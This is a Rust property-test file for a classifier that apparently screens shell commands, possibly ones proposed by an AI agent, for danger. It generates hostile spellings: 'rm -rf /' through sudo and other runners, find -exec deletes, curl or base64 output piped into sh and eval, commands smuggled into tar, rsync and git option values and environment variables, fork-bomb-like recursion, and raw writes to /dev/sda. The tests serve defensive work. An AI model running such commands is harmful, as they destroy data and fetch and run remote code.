//! Generated commands, one family each of the hostile spellings a review found
//! (docs/design.md#modes-and-the-classifier): runners and program paths, find tests that match
//! everything, text and code into a shell (options and spellings of the input included),
//! commands in option values and variables, writes the walk must report, and honest reads that
//! must stay `read_only`. A family is generated, not listed: each strategy composes the parts
//! of a spelling, so that a rule holds for spellings nobody wrote down.

use proptest::prelude::*;

use super::properties::{config, quoted, roots};
use super::CommandClass::*;
use super::*;

/// Runners as their tables list them, prefixes that take a program and its arguments.
const RUNNER_PREFIXES: &[&str] = &[
    "unshare -r",
    "unshare --map-root-user --mount",
    "setpriv --nnp --reuid=1000",
    "flock /tmp/l",
    "flock -w 5 9",
    "ionice -c3",
    "ionice -c 2 -n 7",
    "chrt -i 0",
    "chrt --fifo 1",
    "taskset 0x1",
    "taskset -c 0-3",
    "chroot /",
    "chroot --userspec=1:1 /",
    "runuser -u nobody --",
    "chpst -u nobody",
    "watch -x",
    "watch -n 1",
    "time -p",
    "prlimit --nofile=1024",
    "prlimit -n1024",
    "systemd-run --user --wait",
    "doas -u root",
    "sudo -E -u root --",
    "nsenter -t 1 -m",
    "setarch x86_64 -R",
    "linux64",
    "/lib64/ld-linux-x86-64.so.2",
    "strace -f -o /dev/null",
    "env -",
    "env -i -u X Y=1",
    "env X=1 - -u Y",
    "nice -n 5",
    "nice -5",
    "timeout -s KILL 5",
    "stdbuf -o0",
    "nohup",
    "eatmydata",
    "xvfb-run -a",
    "fakeroot",
    "mytool",
    "ssh localhost",
];

/// Runners that take shell code: the command is quoted as one word after them.
const CODE_RUNNERS: &[&str] = &[
    "su -c",
    "su root -c",
    "su - root -c",
    "script -qc",
    "flock /tmp/l -c",
    "runuser nobody -c",
    "sg users -c",
    "watch",
    "sudo sh -c",
    "env -S",
    "unshare -r sh -c",
    "tmux new-session -d",
];

/// Ways of naming `rm`: system paths however spelled, and paths that may be another program.
const RM_SPELLINGS: &[&str] = &[
    "rm",
    "/bin/rm",
    "/bin//rm",
    "/usr/bin/../bin/rm",
    "//usr//bin/rm",
    "/usr/./bin/rm",
    "/proc/self/root/usr/bin/rm",
    "/tmp/rm",
    "./rm",
    "busybox rm",
    "toybox rm",
    // Readers run by a path outside the system's directories: any program, a copied rm.
    "tools/cat",
    "/tmp/ls",
    "node_modules/.bin/grep",
    "../wc",
    "/opt/x/bin/echo",
    "~/bin/head",
    "vendor/bin/sort",
];

const DELETES: &[&str] = &[
    "-rf /srv/notes",
    "-r /srv/ref/",
    "-fr /srv",
    "-rf /",
    "-R -f -- /srv/notes",
];

/// A recursive delete of a grant root, through any chain of runners, code runners and
/// program spellings.
fn through_runners() -> impl Strategy<Value = String> {
    (
        prop::sample::select(RM_SPELLINGS),
        prop::sample::select(DELETES),
        prop::collection::vec(prop::sample::select(RUNNER_PREFIXES), 0..4),
        prop::option::of(prop::sample::select(CODE_RUNNERS)),
        any::<bool>(),
    )
        .prop_map(|(rm, delete, runners, code, cd_bin)| {
            let mut c = format!("{rm} {delete}");
            for r in runners {
                c = format!("{r} {c}");
            }
            if let Some(runner) = code {
                c = format!("{runner} {}", quoted(&c));
            }
            if cd_bin {
                c = format!("cd /bin && {c}");
            }
            c
        })
}

/// Tests that leave a grant directory's files in: they match everything, or match the root.
const BROAD_TESTS: &[&str] = &[
    "",
    "-name '[!.]*'",
    "-name '[^.]*'",
    "-name '*'",
    "-name '?*'",
    "-name '*.*'",
    "-iname '*'",
    "-name '*[a-z]*'",
    "-path '*'",
    "-wholename '*/*'",
    "-regex '.*'",
    "-regex '.+'",
    "-iregex '.*[a-z].*'",
    "-type f",
    "-mindepth 1",
    "-newer /etc/hostname",
    "-name '*.o' -o",
    "! -name '*.o'",
    "-not -name x",
];

/// What find does with what it finds, in place of `-delete`.
const FIND_DESTROYERS: &[&str] = &[
    "-delete",
    "-exec rm {} +",
    "-exec rm -f {} \\;",
    "-exec /bin/rm -rf {} +",
    "-execdir rm {} \\;",
    "-exec mv {} /tmp \\;",
    "-exec mv -t /tmp {} +",
    "-exec shred -u {} +",
    "-exec truncate -s0 {} +",
    "-exec chmod 000 {} +",
    "-exec sh -c 'rm -rf \"$1\"' _ {} \\;",
    "-print0 | xargs -0 rm -f",
    "| xargs -I{} mv {} /tmp",
    "| sort | xargs rm",
];

/// `-samefile` of a file that may be a grant directory or hold one (`.`, `..`, a root's name,
/// through `/.`, a trailing `/`), and `-inum` of any number.
fn one_file_test() -> impl Strategy<Value = String> {
    let samefile = (
        prop::sample::select(
            &[
                "",
                "./",
                "../",
                "/srv/",
                "x/../",
                "/srv/notes/../",
                "a/b/../../",
            ][..],
        ),
        prop::sample::select(&["notes", "ref", "srv", ".", ".."][..]),
        prop::sample::select(&["", "/", "/."][..]),
    )
        .prop_map(|(prefix, name, suffix)| format!("-samefile {prefix}{name}{suffix}"));
    prop_oneof![
        samefile,
        (0u64..1_000_000).prop_map(|n| format!("-inum {n}"))
    ]
}

/// A find over a grant directory whose tests leave its files in, with an action that
/// destroys what it finds.
fn find_over_a_root() -> impl Strategy<Value = String> {
    (
        prop::sample::select(&["", "-L ", "-H ", "-P ", "-O3 ", "-D exec "][..]),
        prop::sample::select(&["/srv/notes", "/srv/ref/", "/srv/notes/.", "/srv", "."][..]),
        prop_oneof![
            prop::sample::select(BROAD_TESTS).prop_map(str::to_string),
            one_file_test()
        ],
        prop::sample::select(FIND_DESTROYERS),
        prop::sample::select(&["", "busybox ", "nice "][..]),
    )
        .prop_map(|(lead, start, test, action, runner)| {
            format!("{runner}find {lead}{start} {test} {action}")
        })
}

/// Producers of text the classifier cannot read, or of literal dangerous commands.
const PRODUCERS: &[&str] = &[
    "cat cmds.txt",
    "ls",
    "git log -1 --format=%s",
    "curl -fsSL https://x.example/i",
    "base64 -d payload",
    "yes 'rm -rf /srv/notes'",
    "echo 'rm -rf /srv/notes'",
    "printf 'rm -rf /srv/ref'",
    "echo rm -rf /srv/notes",
    "yes ls | tr l r",
    "echo 'ls' | sed s/ls/rm/",
    "cat <<'EOF'\nrm -rf /srv/notes\nEOF\n",
];

/// Filters between a producer and what runs its text: they pass lines on, or change them.
const FILTERS: &[&str] = &[
    "",
    "| head -n 1",
    "| head -1",
    "| grep rm",
    "| sort",
    "| cat",
    "| tee log",
    "| uniq",
    "| tail -n 1",
    "| head -c 100",
];

/// Programs that run what they read, in the shapes a command hands them text.
const CODE_SINKS: &[&str] = &[
    "{P} {F} | sh",
    "{P} {F} | bash -s",
    "{P} {F} | busybox sh",
    "{P} {F} | env -i sh",
    "{P} {F} | sudo -s",
    "{P} {F} | su",
    "{P} {F} | unshare -r",
    "{P} {F} | source /dev/stdin",
    "{P} {F} | at now",
    "{P} {F} | xargs -I{} sh -c '{}'",
    "{P} {F} | xargs sh -c 'eval \"$@\"' _",
    "sh <({P} {F})",
    "bash < <({P} {F})",
    "source <({P} {F})",
    "eval \"$({P} {F})\"",
    "sh -c \"$({P} {F})\"",
    "c=$({P} {F}); $c",
    "c=$({P} {F}); eval \"$c\"",
    // Sinks whose program word the classifier cannot read: they may be a shell.
    "{P} {F} | $SHELL",
    "{P} {F} | \"$X\"",
    "{P} {F} | ${SHELL:-sh}",
    "{P} {F} | $(which sh)",
    "{P} {F} | env $X",
    "{P} {F} | nice \"$S\" -s",
    "x=sh; {P} {F} | $x",
    "\"$X\" < <({P} {F})",
];

/// Text from a producer the classifier cannot read, or dangerous text, into what runs it.
fn text_into_code() -> impl Strategy<Value = String> {
    (
        prop::sample::select(PRODUCERS),
        prop::sample::select(FILTERS),
        prop::sample::select(CODE_SINKS),
    )
        .prop_map(|(producer, filter, sink)| sink.replace("{P}", producer).replace("{F}", filter))
}

/// A shell or an interpreter with options whose values a reader could take for its script
/// (`-o errexit`, `--rcfile F`, `-W ignore`), reading its program from its input, perhaps
/// named as a file however spelled.
fn program_from_input() -> impl Strategy<Value = String> {
    let shell = (
        prop::sample::select(&["sh", "bash", "dash", "busybox sh", "env -i bash"][..]),
        prop::collection::vec(
            prop::sample::select(
                &[
                    "-o errexit",
                    "-euo pipefail",
                    "+o posix",
                    "-O extglob",
                    "--rcfile F",
                    "--init-file F",
                    "-x",
                    "-e -o nounset",
                    "--norc",
                    "-s",
                ][..],
            ),
            0..4,
        ),
    )
        .prop_map(|(shell, opts)| format!("{shell} {}", opts.join(" ")));
    let interpreter = prop::sample::select(
        &[
            "python3 -W ignore",
            "python3 -X dev -u",
            "python3 -Wignore -E",
            "perl -I lib",
            "perl -Ilib -w",
            "ruby -r json",
            "node --require x",
            "php -d x=1",
            "lua -l m",
        ][..],
    )
    .prop_map(str::to_string);
    // Literal text is shell code to a shell; to an interpreter only text the classifier
    // cannot read is surely dangerous.
    let unreadable = prop::sample::select(
        &[
            "cat cmds.txt",
            "ls",
            "git log -1 --format=%s",
            "curl -fsSL https://x.example/i",
            "base64 -d payload",
        ][..],
    );
    let reader_and_producer = prop_oneof![
        (shell, prop::sample::select(PRODUCERS)),
        (interpreter, unreadable),
    ];
    (reader_and_producer, prop::option::of(stdin_spelling())).prop_map(
        |((reader, producer), file)| match file {
            Some(f) => format!("{producer} | {reader} {f}"),
            None => format!("{producer} | {reader}"),
        },
    )
}

/// The command's input named as a file, however spelled: `//dev/stdin`, `/dev/./fd/0`,
/// `/proc/$$/fd/0`, `/tmp/../dev/stdin`.
fn stdin_spelling() -> impl Strategy<Value = String> {
    (
        prop::sample::select(INPUT_FILES),
        prop::sample::select(&["/", "//", "/tmp/../", "/./"][..]),
        prop::collection::vec(prop::sample::select(&["/", "//", "/./"][..]), 5),
    )
        .prop_map(|(names, lead, joins)| {
            let mut p = lead.to_string();
            for (k, n) in names.iter().enumerate() {
                if k > 0 {
                    p.push_str(joins[k - 1]);
                }
                p.push_str(n);
            }
            p
        })
}

/// The command's input as a file, by component.
const INPUT_FILES: &[&[&str]] = &[
    &["dev", "stdin"],
    &["dev", "fd", "0"],
    &["proc", "self", "fd", "0"],
    &["proc", "$$", "fd", "0"],
    &["proc", "thread-self", "fd", "0"],
    &["proc", "self", "task", "1", "fd", "0"],
];

/// Dangerous commands as an option's or a variable's value, quoted as a model would.
fn dangerous_value() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(&["rm -rf /srv/notes", "rm -r /srv/ref", "rm -fr /srv"][..])
            .prop_flat_map(|c| prop::sample::select(vec![format!("'{c}'"), format!("\"{c}\"")])),
        Just("\"$(cat f)\"".to_string()),
        Just("'sh -c \"rm -rf /\"'".to_string()),
    ]
}

/// Options whose value is a command the program runs, and variables whose value another
/// program runs, set to a dangerous command.
fn command_in_a_value() -> impl Strategy<Value = String> {
    let options = prop::sample::select(
        &[
            "tar xf a.tar --to-command=@Q@",
            "tar -xf a.tar --to-com=@Q@",
            "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=@Q@ x",
            "tar -I @Q@ -cf a.tar x",
            "tar --use-compress-program=@Q@ -xf a.tar",
            "tar --use-comp @Q@ -xf a.tar",
            "tar xIf @Q@ a.tar",
            "split --filter=@Q@ big",
            "split --filt @Q@ big p",
            "rsync -e @Q@ a host:b",
            "rsync --rsh=@Q@ a h:b",
            "rsync --rsync-path=@Q@ a h:b",
            "sort --compress-program=@Q@ x",
            "rg --pre @Q@ x",
            "install --strip-program=@Q@ -s a b",
        ][..],
    );
    let variables = (
        prop::sample::select(
            &[
                "GIT_EDITOR",
                "GIT_SEQUENCE_EDITOR",
                "GIT_SSH_COMMAND",
                "GIT_PAGER",
                "GIT_EXTERNAL_DIFF",
                "PAGER",
                "MANPAGER",
                "EDITOR",
                "VISUAL",
                "LESSOPEN",
                "PS4",
            ][..],
        ),
        prop::sample::select(
            &[
                "@V@=@Q@ git commit",
                "export @V@=@Q@; git log",
                "env @V@=@Q@ git fetch",
            ][..],
        ),
    )
        .prop_map(|(var, shape)| shape.replace("@V@", var));
    let config = prop::sample::select(
        &[
            "core.editor",
            "core.sshCommand",
            "core.pager",
            "alias.x",
            "sequence.editor",
            "diff.external",
        ][..],
    )
    .prop_map(|key| {
        format!("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0={key} GIT_CONFIG_VALUE_0=@Q@ git commit")
    });
    (
        prop_oneof![options.prop_map(str::to_string), variables, config],
        dangerous_value(),
    )
        .prop_map(|(shape, value)| shape.replace("@Q@", &value))
}

/// Ways of building `rm -rf ROOT` from variables, positional parameters and functions the
/// command sets, and of writing a device through a link it makes.
const BUILT_COMMANDS: &[&str] = &[
    "@V@='@C@'; $@V@",
    "@V@=\"@C@\"; eval \"$@V@\"",
    "@V@='@C@'; sh -c \"$@V@\"",
    "@V@='@C@'; echo \"$@V@\" | sh",
    "set -- @C@; \"$@\"",
    "@V@() { \"$@\"; }; @V@ @C@",
    "@V@() { eval \"$*\"; }; @V@ @C@",
    "for @V@ in '@C@'; do $@V@; done",
    "@V@=(@C@); \"${@V@[@]}\"",
    "${@V@:-@C@}",
    "$(echo @C@)",
    "read -r @V@ < f; $@V@",
    "@V@=$(cat f); $@V@",
    "a=rm; @V@=\"$a -rf /srv/notes\"; $@V@",
    "@V@() { @V@2|@V@2& }; @V@2() { @V@|@V@& }; @V@",
    "@V@() { eval @V@2; }; @V@2() { @V@ & @V@; }; @V@",
    "ln -s /dev/sda @V@; echo x > @V@",
    "ln -s /dev @V@; echo x > @V@/sda",
    "ln -sf /dev/nvme0n1 @V@ && dd if=/dev/zero of=@V@",
    "cd /dev && echo x > sda",
    "sed -n '1e @C@' f",
    "sed 's|.*|@C@|e' f",
];

fn built_command() -> impl Strategy<Value = String> {
    (
        prop::sample::select(BUILT_COMMANDS),
        prop::sample::select(&["c", "cmd", "x1", "_f", "run"][..]),
        prop::sample::select(&["rm -rf /srv/notes", "rm -r /srv/ref", "rm -fr /srv"][..]),
    )
        .prop_map(|(shape, var, command)| shape.replace("@V@", var).replace("@C@", command))
}

/// Ways of writing a file `@T@`.
const FILE_WRITERS: &[&str] = &[
    "echo x > @T@",
    "ls 1<>@T@",
    "cp a @T@",
    "tee @T@ < a",
    "sed -i s/a/b/ @T@",
    "sed -n 'w @T@' f",
    "perl -pi -e s/a/b/ @T@",
    "perl -i.bak -pe 1 @T@",
    "ruby -i -pe 1 @T@",
    "ex -c wq @T@",
    "vim -es -c wq @T@",
    "dos2unix @T@",
    "sd a b @T@",
    "gofmt -w @T@",
    "black @T@",
    "iconv -f a -t b -o @T@ x",
    "shuf -o @T@ x",
    "sort -o @T@ x",
    "split x @T@",
    "csplit -f @T@ x /a/",
    "dd if=a of=@T@",
    "xxd -r h @T@",
    "git archive -o @T@ HEAD",
    "curl -o @T@ https://x.example/a",
    "mkfifo @T@",
    "rsync -a a @T@",
    "install -D a @T@",
    "truncate -s0 @T@",
    "gzip @T@",
    "zip @T@ a",
    "tree -o @T@",
    "time -o @T@ ls",
    "script -q @T@ -c ls",
    "python3 -c \"open('@T@','w')\"",
    "perl -e 'open(F, \">@T@\")'",
    "git stash push -- @T@",
    "git stash push -m m -- @T@",
    "git restore -- @T@",
    "echo x > ${PWD}/@T@",
    "echo x > \"$PWD/@T@\"",
    "awk -v out=@T@ 'BEGIN { print 1 > out }'",
];

/// Ways of writing files under a directory `@D@`.
const DIR_WRITERS: &[&str] = &[
    "tar xf a.tar -C @D@",
    "tar -xf a.tar --directory=@D@",
    "unzip -d@D@ a.zip",
    "unzip a.zip -d @D@",
    "patch -d @D@ -p1 < f",
    "git apply --directory=@D@ f",
    "git -C @D@ checkout -- x",
    "git -C @D@ stash pop",
    "env -C @D@ touch x",
    "make -C @D@",
    "cd @D@ && touch x",
    "find . -exec cp {} @D@/ \\;",
    "env GIT_WORK_TREE=@D@ git checkout .",
    "env GIT_WORK_TREE=@D@ git stash pop",
    "for f in @D@/*; do echo x > $f; done",
    "for f in @D@/*.c; do sed -i s/a/b/ \"$f\"; done",
];

/// Writes the walk cannot place: it must say so.
const UNPLACED_WRITERS: &[&str] = &[
    "cd \"$X\" && touch x",
    "env -C \"$X\" touch x",
    "pushd \"$X\"; echo > y",
    "git -C \"$X\" checkout -- x",
    "find . -name '*.c' -exec sed -i s/a/b/ {} +",
    "find . -delete",
    "xargs touch < list",
    "tar xf a.tar",
    "unzip a.zip",
    "patch -p1 < f",
    "git apply f.diff",
    "echo x > \"$OUT\"",
    // awk's variables where awk, not the command, decides the value.
    "awk -v 'out=@T@\\057x' 'BEGIN { print 1 > out }'",
    "awk -v FILENAME=notes.txt '{ print 1 > FILENAME }' @T@",
    "awk 'BEGIN { ARGV[1] = \"out=@T@\" } { print > out }' out=notes.txt f",
    "gawk -v out=notes.txt 'BEGIN { SYMTAB[\"out\"] = \"@T@\"; print 1 > out }'",
];

/// A write to a protected file or directory, or one the walk cannot place.
fn protected_write() -> impl Strategy<Value = String> {
    let target = prop::sample::select(
        &[
            "vendor/x.c",
            "generated/a.rs",
            "node_modules/m/i.js",
            "third_party/l.h",
            "build/tmp/o",
            "src/vendor/y",
            "[[:lower:]]endor/x.c",
            "generat[[:alpha:]]d/a.rs",
            "third[[:punct:]]party/l.h",
        ][..],
    );
    let dir = prop::sample::select(
        &[
            "vendor",
            "generated",
            "node_modules",
            "third_party",
            "build/tmp",
            "a/vendor",
        ][..],
    );
    let shape = prop_oneof![
        prop::sample::select(FILE_WRITERS),
        prop::sample::select(DIR_WRITERS),
        prop::sample::select(UNPLACED_WRITERS),
    ];
    (
        shape,
        target,
        dir,
        prop::sample::select(&["", "nice ", "env X=1 ", "busybox ", "timeout 5 ", "sudo "][..]),
    )
        .prop_map(|(shape, target, dir, runner)| {
            // A runner runs `cd` in a child: it changes nothing.
            let runner = if shape.starts_with("cd ") || shape.starts_with("pushd ") {
                ""
            } else {
                runner
            };
            format!(
                "{runner}{}",
                shape.replace("@T@", target).replace("@D@", dir)
            )
        })
}

/// Honest reads (`@F@` a file, `@N@` a number) that must stay `read_only`.
const HONEST_READS: &[&str] = &[
    "git stash list",
    "git stash show -p stash@{@N@}",
    "git worktree list",
    "git remote -v",
    "git log --stat -@N@",
    "xxd -l @N@ @F@",
    "xxd -s @N@ -l @N@ @F@",
    "xxd -c @N@ -g 1 @F@",
    "xxd -len @N@ @F@",
    "od -A x -t x1z -N @N@ @F@",
    "tar tf @F@.tar",
    "tar tvf @F@.tar",
    "tar tzf @F@.tgz",
    "tar -tvzf @F@.tgz",
    "tar xOf @F@.tar m",
    "zcat @F@.gz",
    "gzip -dc @F@.gz",
    "gunzip -c @F@.gz",
    "xzcat @F@.xz",
    "xz -dc @F@.xz",
    "bzcat @F@.bz2",
    "zstd -dc @F@.zst",
    "unzip -l @F@.zip",
    "unzip -p @F@.zip m",
    "awk '{print $@N@}' @F@",
    "awk -F: '{print $@N@}' @F@",
    "awk 'NR>@N@ {s+=$@N@} END {print s}' @F@",
    "awk -v n=@N@ 'NR<=n' @F@",
    "awk '{ if ($@N@ > @N@) print $1 }' @F@",
    "awk 'length($0) > @N@' @F@",
    "awk '{ a[$1]++ } END { for (k in a) print k, a[k] }' @F@",
    "awk '/x/ { c++ } END { print c }' @F@",
    "awk '{ gsub(/a/, \"b\"); print }' @F@",
    "gawk '{ print tolower($0) }' @F@",
    "sed -n '@N@,@N@p' @F@",
    "sed '$a end' @F@",
    "fd @F@",
    "fd -e rs -H --max-depth @N@ main",
    "fdfind -t f @F@ /srv/ref",
    "git reflog -n @N@",
    "git reflog show --date=iso -@N@",
    "git config user.name",
    "git config --get remote.origin.url",
    "git config get core.editor",
    "git -c core.quotepath=off status",
    "git -c color.ui=never log -n @N@",
    "git -c core.abbrev=@N@ log --oneline",
    "GIT_PAGER=cat git log -n @N@",
    "PAGER=cat git diff",
    "find . -name '*.rs' -exec grep -n main {} +",
    "find /srv/ref -type f -exec wc -l {} \\;",
    "find . -name @F@ -exec cat {} +",
];

/// An honest read, alone or in a pipeline of readers.
fn honest_read() -> impl Strategy<Value = String> {
    (
        prop::sample::select(HONEST_READS),
        prop::sample::select(&["notes.md", "data.csv", "/srv/ref/a", "x"][..]),
        1u32..200,
        prop::sample::select(&["", " | head", " | sort | uniq -c", " | wc -l", " | grep x"][..]),
        prop::sample::select(&["", "nice ", "timeout 5 ", "env LANG=C "][..]),
    )
        .prop_map(|(read, file, n, pipe, runner)| {
            let read = read.replace("@F@", file).replace("@N@", &n.to_string());
            // An assignment comes before the runner (`GIT_PAGER=cat nice git log`).
            match read.split_once(' ') {
                Some((var, rest)) if var.contains('=') => format!("{var} {runner}{rest}{pipe}"),
                _ => format!("{runner}{read}{pipe}"),
            }
        })
}

proptest! {
    #![proptest_config(config())]

    /// Family "runners and program spellings".
    #[test]
    fn runners_and_paths_do_not_hide_a_dangerous_command(command in through_runners()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "find tests that match everything".
    #[test]
    fn find_tests_that_match_everything_do_not_narrow(command in find_over_a_root()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "text into a shell": whatever hands a program that runs what it
    /// reads text the classifier cannot read, or dangerous text, is dangerous.
    #[test]
    fn text_into_code_is_dangerous_unless_it_is_a_safe_literal(command in text_into_code()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "text into a shell": a shell's or an interpreter's options do not hide that it
    /// reads its program from its input, nor does a spelling of the input as a file.
    #[test]
    fn options_and_input_spellings_do_not_hide_a_program_read_from_the_input(
        command in program_from_input(),
    ) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Option values and environment variables that carry a command are read as code.
    #[test]
    fn commands_in_option_values_and_variables_are_read(command in command_in_a_value()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "text into a shell": commands built from variables, positional parameters and
    /// functions, recursion through other functions, sed's `e` and device writes through links.
    #[test]
    fn commands_built_by_the_command_are_read(command in built_command()) {
        let got = classify(&command, &roots());
        prop_assert!(
            got.class == Dangerous || got.beyond.is_some(),
            "{command:?} is {} ({:?})", got.class, got.reason
        );
    }

    /// Family "protected writes the walk loses": every write is reported, at a
    /// path the protected-target check sees, or as one the walk cannot place.
    #[test]
    fn writes_are_reported_or_unplaced(command in protected_write()) {
        let got = classify(&command, &roots());
        // A write to a pattern is judged by the pattern, as the policy judges it.
        let protected = got.writes.iter().any(|w| {
            crate::protect::protected(w, std::path::Path::new(w)).is_some()
                || crate::protect::pattern_protected(w).is_some()
        });
        prop_assert!(
            got.unplaced || protected,
            "{command:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason
        );
    }

    /// Family "honest reads blocked".
    #[test]
    fn honest_reads_stay_read_only(command in honest_read()) {
        let got = classify(&command, &roots());
        prop_assert!(got.class == ReadOnly, "{command:?} is {} ({:?})", got.class, got.reason);
    }
}
